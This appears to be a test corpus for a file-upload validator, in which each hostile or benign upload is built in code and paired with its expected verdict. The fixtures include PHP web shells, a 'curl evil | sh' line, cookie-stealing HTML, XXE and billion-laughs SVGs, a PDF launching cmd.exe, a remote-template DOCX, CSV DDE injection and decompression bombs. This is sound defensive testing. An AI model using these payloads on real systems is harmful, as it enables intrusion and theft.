@@ -1,0 +1,457 @@
+"""The inspection corpus: hostile and benign files, each built in code, each with its verdict.
+
+`ATTACKS` must all be rejected with their code, `BENIGN` must all be accepted.
+`python -m tests.corpus` prints the table the README shows.
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+
+from docx import Document
+from openpyxl import Workbook
+from PIL import Image
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from reportlab.pdfgen import canvas
+
+from broker.profiles import Profiles, load_profiles
+
+DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+SVG = "image/svg+xml"
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+
+# The shipped profiles, plus three that take SVG and one that neutralises CSV formulas.
+_EXTRA_PROFILES = """
+[drawing]
+visibility = "private"
+max_size = "1 MiB"
+[drawing.types]
+"image/svg+xml" = ["svg"]
+
+[public_drawing]
+visibility = "public"
+max_size = "1 MiB"
+[public_drawing.types]
+"image/svg+xml" = ["svg"]
+
+[sanitized_drawing]
+visibility = "public"
+max_size = "1 MiB"
+sanitize_svg = true
+[sanitized_drawing.types]
+"image/svg+xml" = ["svg"]
+
+[sheet]
+visibility = "private"
+max_size = "1 MiB"
+csv_formulas = "neutralize"
+[sheet.types]
+"text/csv" = ["csv"]
+"""
+
+
+def corpus_profiles() -> Profiles:
+    shipped = {p.name: p for p in load_profiles()}
+    extra = {p.name: p for p in Profiles.from_toml(_EXTRA_PROFILES, "corpus")}
+    return Profiles(shipped | extra)
+
+
+@dataclass(frozen=True)
+class Sample:
+    """One file as a client would upload it, and what the validator must say."""
+
+    name: str
+    profile: str
+    filename: str
+    content_type: str
+    build: Callable[[], bytes]
+    expect: str | None  # a reason code, or None: accepted
+    scanner: bool = False  # needs a real malware scanner
+
+    def data(self) -> bytes:
+        return self.build()
+
+
+# -- building blocks -----------------------------------------------------------------
+
+def image(fmt: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", size, (30, 120, 200)).save(out, fmt, **options)
+    return out.getvalue()
+
+
+def animated_gif(frames: int) -> bytes:
+    out = io.BytesIO()
+    colours = [(i % 256, (i * 37) % 256, (i * 91) % 256) for i in range(frames)]
+    first, *rest = [Image.new("RGB", (16, 16), colour) for colour in colours]
+    first.save(out, "GIF", save_all=True, append_images=rest, duration=40, loop=0)
+    return out.getvalue()
+
+
+def png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def png_with_text(text: bytes) -> bytes:
+    png = image("PNG")
+    return png[:33] + png_chunk(b"tEXt", b"Comment\0" + text) + png[33:]  # after IHDR
+
+
+def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
+    """A few KiB that claim 400 megapixels: rows of zeros compress to almost nothing."""
+    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
+    packer = zlib.compressobj(9)
+    row = b"\0" * (1 + width // 8)
+    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
+    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) \
+        + png_chunk(b"IEND", b"")
+
+
+def jpeg_with_comment(comment: bytes) -> bytes:
+    jpeg = image("JPEG")
+    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
+    return jpeg[:2] + segment + jpeg[2:]
+
+
+def zip_of(entries: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def jar() -> bytes:
+    return zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: A\n",
+                   "A.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64})
+
+
+def docx(text: str = "Quarterly report") -> bytes:
+    document = Document()
+    document.add_heading("Report", 1)
+    document.add_paragraph(text)
+    table = document.add_table(rows=2, cols=2)
+    table.cell(0, 0).text = "Revenue"
+    table.cell(0, 1).text = "-1200"
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def xlsx() -> bytes:
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append(["item", "amount"])
+    sheet.append(["refund", -12.5])
+    sheet.append(["total", "=SUM(B2:B2)"])  # formulas are normal inside a real workbook
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def rezipped(data: bytes, add: dict[str, bytes] | None = None,
+             change: Callable[[str, bytes], bytes] | None = None) -> bytes:
+    """The same package with parts added or changed."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as source, \
+            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            body = source.read(info)
+            target.writestr(info.filename, change(info.filename, body) if change else body)
+        for name, body in (add or {}).items():
+            target.writestr(name, body)
+    return out.getvalue()
+
+
+def docx_with_macros() -> bytes:
+    return rezipped(docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})
+
+
+def docm_content_type() -> bytes:
+    return rezipped(docx(), change=lambda name, body: body.replace(
+        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
+        if name == "[Content_Types].xml" else body)
+
+
+def docx_remote_template() -> bytes:
+    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
+            b"</Relationships>")
+    return rezipped(docx(), add={"word/_rels/settings.xml.rels": rels})
+
+
+def xlsx_zip_bomb() -> bytes:
+    return rezipped(xlsx(), add={"xl/media/padding.bin": b"\0" * (64 * 1024 * 1024)})
+
+
+def xlsx_many_entries() -> bytes:
+    return rezipped(xlsx(), add={f"xl/media/p{i}.xml": b"<a/>" for i in range(10_001)})
+
+
+def ole_container() -> bytes:
+    """The compound-file header password-protected Office files are stored in."""
+    return bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HH", 0x3E, 3) \
+        + b"\xfe\xff" + b"\0" * 486
+
+
+def reportlab_pdf() -> bytes:
+    out = io.BytesIO()
+    page = canvas.Canvas(out)
+    page.drawString(72, 720, "Invoice 42: 3 items, total -12.50")
+    page.linkURL("https://example.com/invoices/42", (72, 700, 300, 716))
+    page.save()
+    return out.getvalue()
+
+
+def pdf_changed(change: Callable[[PdfWriter], None]) -> bytes:
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(reportlab_pdf())))
+    change(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _action(kind: str, **entries: object) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
+    return action
+
+
+def pdf_open_javascript(writer: PdfWriter) -> None:
+    writer._root_object[NameObject("/OpenAction")] = _action(
+        "/JavaScript", JS=TextStringObject("app.alert('owned')"))
+
+
+def pdf_launch_link(writer: PdfWriter) -> None:
+    link = DictionaryObject({
+        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+        NameObject("/Rect"): ArrayObject([]),
+        NameObject("/A"): _action("/Launch", F=TextStringObject("cmd.exe")),
+    })
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+
+
+def pdf_page_open_action(writer: PdfWriter) -> None:
+    writer.pages[0][NameObject("/AA")] = DictionaryObject(
+        {NameObject("/O"): _action("/URI", URI=TextStringObject("https://tracker.example"))})
+
+
+def pdf_xfa(writer: PdfWriter) -> None:
+    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject([]), NameObject("/XFA"): TextStringObject("<xdp/>")})
+
+
+def svg(body: str, head: str = "") -> bytes:
+    return (f'{head}<svg xmlns="http://www.w3.org/2000/svg" '
+            f'xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
+            f"{body}</svg>").encode()
+
+
+BILLION_LAUGHS = (
+    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
+    '<!ENTITY c "&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]>')
+XXE = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+PE = b"MZ\x90\x00" + b"\0" * 56 + struct.pack("<I", 64) + b"PE\0\0" + b"\x4c\x01" + b"\0" * 300
+ELF = b"\x7fELF\x02\x01\x01\0" + b"\0" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\0" * 200
+LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 60
+HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal?c='+document.cookie)</script>" \
+    b"</body></html>\n"
+TEXT_70K = b"An ordinary line of report text.\n" * 2200
+
+
+def csv_rows(*rows: str) -> bytes:
+    return ("\r\n".join(rows) + "\r\n").encode()
+
+
+A, D = "avatar", "document"
+
+ATTACKS: list[Sample] = [
+    # Spoofed types: the bytes are something else than the declaration.
+    Sample("HTML page named .png", A, "x.png", "image/png", lambda: HTML, "type_mismatch"),
+    Sample("Windows program named .jpg", A, "a.jpg", "image/jpeg", lambda: PE, "type_mismatch"),
+    Sample("Linux program named .gif", A, "a.gif", "image/gif", lambda: ELF, "type_mismatch"),
+    Sample("PHP script named .webp", A, "a.webp", "image/webp",
+           lambda: b"<?php system($_GET['c']); ?>\n", "type_mismatch"),
+    Sample("PNG named .pdf", D, "a.pdf", "application/pdf", lambda: image("PNG"),
+           "type_mismatch"),
+    Sample("shell script named .txt", D, "a.txt", "text/plain",
+           lambda: b"#!/bin/sh\ncurl evil | sh\n", "type_mismatch"),
+    Sample("HTML page named .csv", D, "a.csv", "text/csv", lambda: HTML, "type_mismatch"),
+    Sample("plain ZIP named .docx", D, "a.docx", DOCX, lambda: zip_of({"a.txt": b"x"}),
+           "type_mismatch"),
+    Sample("Java archive named .xlsx", D, "a.xlsx", XLSX, jar, "type_mismatch"),
+    Sample("Windows shortcut named .pdf", D, "a.pdf", "application/pdf", lambda: LNK,
+           "type_mismatch"),
+    Sample("SVG with script named .png", A, "a.png", "image/png",
+           lambda: svg("<script>alert(1)</script>"), "type_mismatch"),
+    Sample("script with an unknown interpreter as text", D, "a.txt", "text/plain",
+           lambda: b"#!/opt/custom/runner\nrun everything\n", "forbidden_type"),
+    # Polyglots: a valid file with another one hidden inside or after it.
+    Sample("PNG with a ZIP appended", A, "a.png", "image/png",
+           lambda: image("PNG") + zip_of({"shell.php": b"<?php ?>"}), "polyglot"),
+    Sample("GIFAR: GIF with a Java archive appended", A, "a.gif", "image/gif",
+           lambda: image("GIF") + jar(), "polyglot"),
+    Sample("JPEG with PHP appended", A, "a.jpg", "image/jpeg",
+           lambda: image("JPEG") + b"<?php system($_GET['c']); ?>", "polyglot"),
+    Sample("WebP with HTML appended", A, "a.webp", "image/webp",
+           lambda: image("WEBP") + HTML, "polyglot"),
+    Sample("PNG with PHP in a text chunk", A, "a.png", "image/png",
+           lambda: png_with_text(b"<?php eval($_POST['x']); ?>"), "polyglot"),
+    Sample("JPEG with script in its comment", A, "a.jpg", "image/jpeg",
+           lambda: jpeg_with_comment(b"<script>alert(1)</script>"), "polyglot"),
+    Sample("PDF with a ZIP after %%EOF", D, "a.pdf", "application/pdf",
+           lambda: reportlab_pdf() + zip_of({"x.exe": PE}), "polyglot"),
+    # Bombs and broken files.
+    Sample("PNG claiming 400 megapixels", A, "a.png", "image/png", png_bomb,
+           "decompression_bomb"),
+    Sample("GIF with 150 frames", A, "a.gif", "image/gif", lambda: animated_gif(150),
+           "too_many_frames"),
+    Sample("truncated PNG", A, "a.png", "image/png", lambda: image("PNG", (300, 300))[:-200],
+           "malformed"),
+    Sample("truncated JPEG", A, "a.jpg", "image/jpeg",
+           lambda: image("JPEG", (300, 300))[:1500], "malformed"),
+    Sample("XLSX hiding 64 MiB of zeros", D, "a.xlsx", XLSX, xlsx_zip_bomb,
+           "decompression_bomb"),
+    Sample("XLSX with 10,001 parts", D, "a.xlsx", XLSX, xlsx_many_entries,
+           "decompression_bomb"),
+    Sample("PDF that does not parse", D, "a.pdf", "application/pdf",
+           lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R\nendobj\n%%EOF\n",
+           "malformed"),
+    # SVG that can run script or reach out.
+    Sample("SVG <script>", "drawing", "a.svg", SVG,
+           lambda: svg("<script>alert(1)</script>"), "active_content"),
+    Sample("SVG onload handler", "drawing", "a.svg", SVG,
+           lambda: svg('<rect width="5" height="5" onload="alert(1)"/>'), "active_content"),
+    Sample("SVG foreignObject with HTML", "drawing", "a.svg", SVG,
+           lambda: svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
+                       '<iframe src="https://evil.example"/></body></foreignObject>'),
+           "active_content"),
+    Sample("SVG javascript: link, split by a tab", "drawing", "a.svg", SVG,
+           lambda: svg('<a xlink:href="java&#x09;script:alert(1)"><text>hi</text></a>'),
+           "active_content"),
+    Sample("SVG data: image", "drawing", "a.svg", SVG,
+           lambda: svg('<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>'),
+           "active_content"),
+    Sample("SVG external <use>", "drawing", "a.svg", SVG,
+           lambda: svg('<use href="https://evil.example/sprite.svg#x"/>'), "active_content"),
+    Sample("SVG style importing a remote sheet", "drawing", "a.svg", SVG,
+           lambda: svg("<style>@import url(https://evil.example/x.css);</style>"),
+           "active_content"),
+    Sample("SVG <set> that turns a link into javascript:", "drawing", "a.svg", SVG,
+           lambda: svg('<a><set attributeName="href" to="javascript:alert(1)"/>'
+                       '<text>x</text></a>'), "active_content"),
+    Sample("SVG billion laughs", "drawing", "a.svg", SVG,
+           lambda: svg("<text>&d;</text>", BILLION_LAUGHS), "malformed"),
+    Sample("SVG external entity (XXE)", "drawing", "a.svg", SVG,
+           lambda: svg("<text>&x;</text>", XXE), "malformed"),
+    Sample("inert SVG in a public profile without sanitizing", "public_drawing", "a.svg", SVG,
+           lambda: svg('<circle r="4" fill="red"/>'), "type_not_allowed"),
+    # PDF that runs, launches or carries things.
+    Sample("PDF running JavaScript on open", D, "a.pdf", "application/pdf",
+           lambda: pdf_changed(pdf_open_javascript), "active_content"),
+    Sample("PDF link that launches a program", D, "a.pdf", "application/pdf",
+           lambda: pdf_changed(pdf_launch_link), "active_content"),
+    Sample("PDF page with an automatic action", D, "a.pdf", "application/pdf",
+           lambda: pdf_changed(pdf_page_open_action), "active_content"),
+    Sample("PDF carrying an embedded program", D, "a.pdf", "application/pdf",
+           lambda: pdf_changed(lambda w: w.add_attachment("invoice.exe", PE)),
+           "active_content"),
+    Sample("PDF with an XFA form", D, "a.pdf", "application/pdf",
+           lambda: pdf_changed(pdf_xfa), "active_content"),
+    Sample("password-protected PDF", D, "a.pdf", "application/pdf",
+           lambda: pdf_changed(lambda w: w.encrypt("secret")), "encrypted"),
+    # Office documents with macros or remote parts.
+    Sample("DOCX with a VBA project", D, "a.docx", DOCX, docx_with_macros, "active_content"),
+    Sample("DOCM content type named .docx", D, "a.docx", DOCX, docm_content_type,
+           "active_content"),
+    Sample("DOCX with a remote template", D, "a.docx", DOCX, docx_remote_template,
+           "active_content"),
+    Sample("password-protected DOCX (OLE container)", D, "a.docx", DOCX, ole_container,
+           "encrypted"),
+    # Text and CSV.
+    Sample("CSV with =HYPERLINK", D, "a.csv", "text/csv",
+           lambda: csv_rows("name,link", 'x,"=HYPERLINK(""https://evil.example"",""x"")"'),
+           "formula_injection"),
+    Sample("CSV with a DDE command", D, "a.csv", "text/csv",
+           lambda: csv_rows("a,b", "-2+3+cmd|' /C calc'!A0,1"), "formula_injection"),
+    Sample("CSV with @SUM", D, "a.csv", "text/csv", lambda: csv_rows("a", "@SUM(1+1)"),
+           "formula_injection"),
+    Sample("CSV cell starting with a tab", D, "a.csv", "text/csv",
+           lambda: csv_rows("a,b", "1,\t=1+1"), "formula_injection"),
+    Sample("Latin-1 text", D, "a.txt", "text/plain",
+           lambda: "café, naïve, façade\n".encode("latin-1") * 4, "invalid_text"),
+    Sample("UTF-16 text", D, "a.txt", "text/plain",
+           lambda: "hello wörld\n".encode("utf-16") * 4, "invalid_text"),
+    Sample("text with a NUL byte past the first 64 KiB", D, "a.txt", "text/plain",
+           lambda: TEXT_70K + b"\0tail\n", "invalid_text"),
+    # Known malware inside allowed types (needs clamd).
+    Sample("EICAR as a text file", D, "eicar.txt", "text/plain", lambda: EICAR, "malware",
+           scanner=True),
+    Sample("EICAR inside a CSV", D, "a.csv", "text/csv",
+           lambda: csv_rows("note", EICAR.decode()), "malware", scanner=True),
+    Sample("EICAR in a PNG text chunk", A, "a.png", "image/png",
+           lambda: png_with_text(EICAR), "malware", scanner=True),
+    Sample("EICAR inside a DOCX", D, "a.docx", DOCX,
+           lambda: rezipped(docx(), add={"word/media/eicar.com": EICAR}), "malware",
+           scanner=True),
+]
+
+BENIGN: list[Sample] = [
+    Sample("PNG", A, "me.png", "image/png", lambda: image("PNG"), None),
+    Sample("PNG with an ordinary text chunk", A, "me.png", "image/png",
+           lambda: png_with_text(b"Made with Pillow"), None),
+    Sample("JPEG", A, "me.jpg", "image/jpeg", lambda: image("JPEG"), None),
+    Sample("progressive JPEG named .jpeg", A, "me.jpeg", "image/jpeg",
+           lambda: image("JPEG", progressive=True, quality=80), None),
+    Sample("animated GIF", A, "wave.gif", "image/gif", lambda: animated_gif(12), None),
+    Sample("WebP", A, "me.webp", "image/webp", lambda: image("WEBP"), None),
+    Sample("lossless WebP", A, "me.webp", "image/webp",
+           lambda: image("WEBP", lossless=True), None),
+    Sample("shell.php.jpg that is a JPEG", A, "shell.php.jpg", "image/jpeg",
+           lambda: image("JPEG"), None),
+    Sample("PDF from reportlab with a link", D, "invoice.pdf", "application/pdf",
+           reportlab_pdf, None),
+    Sample("PDF from Pillow", D, "scan.pdf", "application/pdf", lambda: image("PDF"), None),
+    Sample("PDF that opens at page 1", D, "a.pdf", "application/pdf",
+           lambda: pdf_changed(lambda w: setattr(w, "open_destination", w.pages[0])), None),
+    Sample("DOCX from python-docx", D, "report.docx", DOCX, docx, None),
+    Sample("XLSX from openpyxl", D, "budget.xlsx", XLSX, xlsx, None),
+    Sample("UTF-8 text with a BOM", D, "notes.txt", "text/plain",
+           lambda: "\ufeffNotes: naïve café, 10 €\n".encode(), None),
+    Sample("long UTF-8 text", D, "log.txt", "text/plain", lambda: TEXT_70K * 3, None),
+    Sample("prose with many commas as text", D, "letter.txt", "text/plain",
+           lambda: b"Dear Ann, Bob, Carl, Dana, and Eve, thanks, truly, again.\n" * 40, None),
+    Sample("CSV with negative numbers and quotes", D, "ledger.csv", "text/csv",
+           lambda: csv_rows("item,amount,note", 'refund,-12.50,"said ""thanks"""',
+                            "fee,+3,", "rate,-1.5e3,Zürich"), None),
+    Sample("inert SVG in a private profile", "drawing", "logo.svg", SVG,
+           lambda: svg('<circle cx="5" cy="5" r="4" fill="#c00"/><use href="#c"/>'), None),
+    Sample("inert SVG in a sanitizing public profile", "sanitized_drawing", "logo.svg", SVG,
+           lambda: svg('<!-- made by hand --><rect width="4" height="4"/>'), None),
+    Sample("CSV with formulas in a neutralizing profile", "sheet", "a.csv", "text/csv",
+           lambda: csv_rows("a,b", "=1+1,2"), None),
+]
+
+
+def markdown_table() -> str:
+    rows = ["| sample | profile | declared as | expected |", "|---|---|---|---|"]
+    for sample in ATTACKS + BENIGN:
+        verdict = f"`{sample.expect}`" if sample.expect else "accepted"
+        rows.append(f"| {sample.name} | {sample.profile} | `{sample.filename}`, "
+                    f"{sample.content_type.rsplit('/', 1)[-1].rsplit('.', 1)[-1]} | {verdict} |")
+    return "\n".join(rows)
+
+
+if __name__ == "__main__":
+    print(markdown_table())
